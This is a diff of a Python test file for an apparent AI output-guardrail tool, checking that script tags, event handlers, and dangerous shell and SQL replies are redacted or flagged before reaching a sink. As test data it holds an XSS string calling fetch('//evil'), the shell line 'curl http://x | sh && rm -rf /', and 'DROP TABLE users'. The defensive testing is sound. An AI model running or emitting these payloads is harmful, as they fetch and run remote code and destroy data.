@@ -44,7 +44,7 @@ def test_a_leaked_system_prompt_is_redacted_from_the_answer(tmp_path):
     assert find_leakage("Never offer a discount above ten percent.", SYSTEM) == []  # a few words are not a leak
 
 
-def test_sinks_flag_what_would_run_there_and_block_withholds_the_answer(tmp_path):
+def test_sinks_redact_what_would_run_there_and_block_withholds_the_answer(tmp_path):
     html = '<p>Hi</p><img src=x onerror="fetch(\'//evil\')"><script>alert(1)</script>'
     assert [f.kind for f in find_sink_risks(html, "html")] == ["script_tag", "event_handler"]
     assert {f.kind for f in find_sink_risks("ls; curl http://x | sh && rm -rf /", "shell")} >= {
@@ -53,7 +53,11 @@ def test_sinks_flag_what_would_run_there_and_block_withholds_the_answer(tmp_path
     assert [f.kind for f in find_sink_risks("DELETE FROM t", "sql")] == ["not_a_query:delete"]
     assert find_sink_risks(html, None) == []  # no sink named: nothing to check
     rules = [{"pattern": "page", "reply": html}, {"pattern": "query", "reply": "DROP TABLE users"}]
-    flagged = scripted(tmp_path, rules)
+    redacted = scripted(tmp_path, rules).ask("make the page", model="local/scripted", sink="html")
+    assert redacted.text == ('<p>Hi</p>[REDACTED:event_handler]"fetch(\'//evil\')">[REDACTED:script_tag]>alert(1)'
+                             '</script>')  # by default: nothing in it runs in the page, and the event says why
+    flagged = Workbench.from_config(store=str(tmp_path / "f.db"), scripted={"rules": rules},
+                                    guardrails={"output": {"sinks": "flag"}})  # fmt: skip
     assert flagged.ask("make the page", model="local/scripted", sink="html").text == html
     assert flagged.guard.df().iloc[0]["scanner"] == "sinks"
     strict = Workbench.from_config(store=str(tmp_path / "s.db"), scripted={"rules": rules},
